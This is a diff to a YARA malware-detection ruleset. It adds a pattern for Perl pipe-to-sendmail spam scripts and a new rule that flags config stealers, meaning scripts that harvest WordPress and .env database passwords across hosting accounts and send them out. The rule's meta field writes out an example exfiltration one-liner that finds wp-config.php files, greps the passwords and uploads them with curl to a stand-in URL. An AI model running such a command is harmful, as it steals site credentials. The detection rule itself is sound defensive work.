@@ -698,6 +698,8 @@ rule bot_smtp_spam_loop_script : bot mailer
         $w6 = /\b(mail|mailx|mutt)\s{1,4}-s\s/
         $w7 = /\bswaks\s[^\n]{0,80}--to\b/
         $w8 = /Net::SMTP(::SSL|::TLS)?\s{0,4}->\s{0,2}new\b/
+        // three-argument pipe open (round 6): open(my $sm, '|-', '/usr/sbin/sendmail -t')
+        $w9 = /\bopen\s{0,4}\(\s{0,4}(my\s{1,4})?\*?\$?\w{1,30}\s{0,4},\s{0,4}["']\|-["']\s{0,4},\s{0,4}["'][\w\/]{0,30}sendmail/
         // or an SMTP transaction step by step: sender, then recipient
         $mf = /->\s{0,2}mail\s{0,2}\(|[(,\[=]\s{0,4}[bf]?["']MAIL FROM|\bprint\s{1,4}\{?\s{0,2}\$\w{1,30}\s{0,2}\}?\s{1,4}["']MAIL FROM|\b(send|sendall|write|syswrite|puts|print)\s{0,2}\(\s{0,2}(\$?[\w.]{1,30}\s{0,2},\s{0,2})?b?["']MAIL FROM|\b(echo|printf)\s{1,4}(-e\s{1,4})?["']MAIL FROM|\\r?\\nMAIL FROM/ nocase
         $rt = /->\s{0,2}(to|recipient)\s{0,2}\(|RCPT TO/
@@ -1828,4 +1830,41 @@ rule bot_irc_vuln_scanner : bot hacktool
         filesize < 2MB and not hs_doc_file and hs_raw_transport and $nick and $pm and
         not (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d) and
         (any of ($a*) or (2 of ($p*) and any of ($s*)))
+}
+
+/* ---- round 6 (branch mail5, "none"): written from the technique list of
+ * docs/script-rules.md "Round 6", tuned on tests/eval/mailgen.py. */
+
+/* A config stealer: the sites' configuration files searched across the
+ * accounts (a glob over /home/*, find -name wp-config.php, a directory
+ * iterator from /home), their database passwords pulled out, and the lot
+ * sent away: mailed to a fixed outside address, posted or uploaded to a URL,
+ * or sent to a Telegram bot. A backup script reads its own site's config for
+ * mysqldump and mails root that it is done. */
+rule bot_config_credential_exfil : bot
+{
+    meta:
+        description = "Config stealer: sites' wp-config.php/.env/configuration.php searched across accounts, the database passwords pulled out and sent away"
+        severity = "high"
+        technique = "for f in $(find /home -name wp-config.php); do grep DB_PASSWORD \"$f\"; done > /tmp/.c; curl -F f=@/tmp/.c http://x/up.php  |  glob('/home/*/public_html/wp-config.php') + preg_match DB_PASSWORD + mail('x@y', ...)"
+        seen = "none"
+    strings:
+        $g1 = /\/home\d?\/\*\/[^\s'"]{0,40}(wp-config\.php|\.env\b|configuration\.php|local\.xml|settings\.php)/
+        $g2 = /\bfind\s{1,4}[^\n|;]{0,80}-i?name\s{1,4}['"]?(wp-config\.php|\.env\b|configuration\.php|local\.xml|settings\.php)/
+        $g3 = /RecursiveDirectoryIterator\s{0,4}\(\s{0,4}['"]\/(home|var\/www)/
+        $gw = "wp-config.php" ascii
+        $c1 = "DB_PASS" ascii
+        $c2 = "DB_PASSWORD" ascii
+        $c3 = "'password'" ascii
+        $c4 = /DB_\(?[A-Z_|]{0,40}PASS/
+        $x1 = "api.telegram.org" ascii
+        $x2 = /\bmail\s{0,4}\(\s{0,4}['"][^'"\s@]{1,40}@[\w-]{1,40}\.[\w.]{2,20}['"]/
+        $x3 = /\bmail\s{1,4}(-[a-zA-Z]\s{1,4}("[^"\n]{0,80}"|'[^'\n]{0,80}'|\S{1,80})\s{1,4}){1,4}[\w.+-]{1,40}@[\w-]{1,40}\.[\w.]{2,20}/
+        $x4 = /curl_init\s{0,4}\(\s{0,4}['"]https?:\/\//
+        $x5 = /\bcurl\s[^\n]{0,160}\s(-F|--form|-d|--data[\w-]{0,8}|-T|--upload-file)\s/
+        $x6 = /\bwget\s[^\n]{0,120}--post-(data|file)/
+        $x7 = /file_get_contents\s{0,4}\(\s{0,4}['"]https?:\/\/[^'"\n]{1,120}['"]\s{0,4}\./
+    condition:
+        filesize < 500KB and (not hs_doc_file or hs_script_ext) and
+        ($g1 or $g2 or ($g3 and $gw)) and any of ($c*) and any of ($x*)
 }
